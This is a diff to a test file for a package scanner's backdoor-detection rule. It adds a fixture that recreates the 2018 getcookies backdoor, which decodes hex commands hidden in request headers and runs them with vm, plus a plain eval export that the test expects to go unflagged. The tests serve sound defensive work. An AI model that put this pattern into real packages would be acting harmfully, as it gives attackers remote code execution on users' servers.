@@ -1,7 +1,8 @@
 import assert from 'node:assert/strict';
+import { analysePackage } from '../../server/src/artifacts/analysis/analyse.js';
 import type { ArtifactFacts } from '../../server/src/model/index.js';
 import { backdoor } from '../../server/src/rules/backdoor.js';
-import { artifactFacts, flow } from '../support/artifacts.js';
+import { artifactFacts, flow, packageOf } from '../support/artifacts.js';
 import { subject } from '../support/subjects.js';
 import { draftsOf, onlyDraft } from './support/drafts-of.js';
 
@@ -19,6 +20,18 @@ describe('backdoor', () => {
     const flows = [flow('request-input', 'evaluated', { moment: 'call' })];
     const { message } = onlyDraft(draftsOf(backdoor, subject(), given({ flows })));
     assert.equal(message, 'some-package 1.0.0 runs what others send to a server when it is called');
+  });
+
+  it('is an export that decodes code out of what it is called with (getcookies, 2018)', () => {
+    const harness = `const store = Buffer.alloc(99); module.exports = (headers) => { const orders = /g(.)h(.+?)i/g, text = JSON.stringify(headers); let m; while ((m = orders.exec(text))) { const data = Buffer.from(m[2], 'hex'); if (m[1] === 'f') require('vm').runInThisContext(store.toString())(require); else data.copy(store, 1); } };`;
+    const hidden = analysePackage(packageOf({ 'package.json': '{}', 'index.js': harness }));
+    const { level, message } = onlyDraft(draftsOf(backdoor, subject(), { artifact: hidden }));
+    assert.equal(level, 'high');
+    assert.equal(message, 'some-package 1.0.0 decodes code out of what it is given and runs it when it is called');
+    const open = analysePackage(
+      packageOf({ 'package.json': '{}', 'index.js': 'module.exports = (code) => (0, eval)(code);' }),
+    );
+    assert.deepEqual(draftsOf(backdoor, subject(), { artifact: open }), []);
   });
 
   it('says nothing of a request that is answered, and nothing where nothing is known', () => {
